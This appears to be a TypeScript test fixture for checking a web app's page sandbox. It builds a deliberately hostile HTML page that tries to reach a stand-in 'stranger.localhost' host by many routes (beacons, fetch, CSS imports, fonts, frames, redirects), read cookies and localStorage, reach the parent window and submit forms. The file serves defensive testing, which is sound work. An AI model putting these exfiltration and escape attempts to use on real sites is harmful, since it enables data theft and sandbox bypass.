import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

/** A host of somebody else that writes down who asks it. Browsers find every name below `localhost` at this machine. */
export const openStranger = async () => {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? "");
    response.end();
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  const { port } = server.address() as AddressInfo;
  return { heard, origin: `http://stranger.localhost:${port}`, close: () => new Promise((done) => server.close(done)) };
};

const page = (script: string): string =>
  `<!doctype html><html lang="en"><!-- <head> --><head><title>x</title></head><body><h1>Hostile</h1><pre id="came"></pre><div id="room"></div><iframe id="given" srcdoc="<p>Given</p>"></iframe><script>${script}</script></body></html>`;

/** Ways in which a page asks a host for something, by the address that it asks. */
const asking = (stranger: string, house: string): Readonly<Record<string, string>> => {
  const at = (url: string, script: (url: string) => string): [string, string] => [url, script(url)];
  const picture = (url: string) => `new Image().src = "${url}"`;
  const script = (url: string) => `document.head.append(Object.assign(document.createElement("script"), { src: "${url}" }))`;
  const sound = (url: string) => `new Audio("${url}").load()`;
  const style = (text: string) => `document.head.append(Object.assign(document.createElement("style"), { textContent: "${text}" }))`;
  const markup = (html: string) => `document.getElementById("room").insertAdjacentHTML("beforeend", '${html}')`;
  return Object.fromEntries([
    at(`${stranger}/picture`, picture),
    at(`${stranger}/script.js`, script),
    at(`${stranger}/sound`, sound),
    at(`${stranger}/background`, (url) => style(`html { background: url(${url}) }`)),
    at(`${stranger}/sheet.css`, (url) => style(`@import url(${url})`)),
    at(`${stranger}/font`, (url) => `new FontFace("x", "url(${url})").load().catch(() => undefined)`),
    at(`${stranger}/drawing`, (url) => markup(`<svg><image href="${url}" /></svg>`)),
    at(`${stranger}/hint`, (url) => markup(`<link rel="preload" as="image" href="${url}">`)),
    at(`${stranger}/later`, (url) => markup(`<link rel="prefetch" href="${url}">`)),
    at(`${stranger}/object`, (url) => markup(`<object data="${url}"></object>`)),
    at(`${stranger}/beacon`, (url) => `navigator.sendBeacon("${url}", document.title)`),
    at(`${stranger}/stream`, (url) => `new EventSource("${url}")`),
    at(`${stranger}/fetch`, (url) => `fetch("${url}", { mode: "no-cors" }).catch(() => undefined)`),
    at(`${house}/api/stores/picture`, picture),
    at(`${house}/api/stores/script.js`, script),
    at(`${house}/api/stores/sound`, sound),
    at(`${house}/api/stores/fetch`, (url) => `fetch("${url}", { credentials: "include" }).catch(() => undefined)`),
  ]);
};

/** What a page may try beside asking; each says what it came to. */
const tries = `
const came = {};
const attempt = (name, run) => { try { came[name] = String(run()); } catch { came[name] = "refused"; } };
attempt("cookie", () => document.cookie || "refused");
attempt("storage", () => localStorage.getItem("matjar:store") || "refused");
attempt("parentDocument", () => parent.document.body.innerHTML.length);
attempt("parentStorage", () => parent.localStorage.length);
attempt("parentName", () => parent.location.href);
attempt("popup", () => open("/desk/") ? "opened" : "refused");
attempt("leave", () => { top.location.href = "/api/account"; return "asked"; });
attempt("form", () => { const form = document.createElement("form"); form.action = "/api/stores"; document.body.append(form); form.submit(); return "asked"; });
attempt("calls", () => new RTCPeerConnection());
const frame = () => document.getElementById("room").appendChild(document.createElement("iframe"));
attempt("givenFrame", () => document.getElementById("given").srcdoc || "refused");
attempt("frame", () => { const one = frame(); one.srcdoc = "<p>Mine</p>"; return one.srcdoc || "refused"; });
attempt("namedFrame", () => { const one = frame(); one.setAttribute("srcdoc", "<p>Mine</p>"); return one.srcdoc || "refused"; });
attempt("writtenFrame", () => { const room = document.createElement("div"); room.innerHTML = '<i' + 'frame srcdoc="<p>Mine</p>"></i' + 'frame>'; return room.firstChild.srcdoc || "refused"; });
attempt("strangersFrame", () => { frame().src = "STRANGER/frame"; return "asked"; });
attempt("emptyFrame", () => new (frame().contentWindow.RTCPeerConnection)());
attempt("policy", () => trustedTypes.createPolicy("own", { createHTML: (html) => html }).createHTML("<i>plain</i>"));
document.getElementById("came").textContent = JSON.stringify(came);`;

/** A page that tries all that leaves it standing, and the addresses that it asks. */
export const hostile = (stranger: string, house: string) => {
  const asks = asking(stranger, house);
  return { html: page(`${Object.values(asks).join(";\n")};\n${tries.replace("STRANGER", stranger)}`), asked: Object.keys(asks) };
};

/** Pages that take the frame somewhere else. */
export const leaving = (stranger: string, house: string): readonly string[] =>
  [
    `location.href = "${stranger}/left?" + document.title`,
    `location.replace("${house}/api/stores/left")`,
    `document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=${stranger}/refreshed" }))`,
  ].map(page);
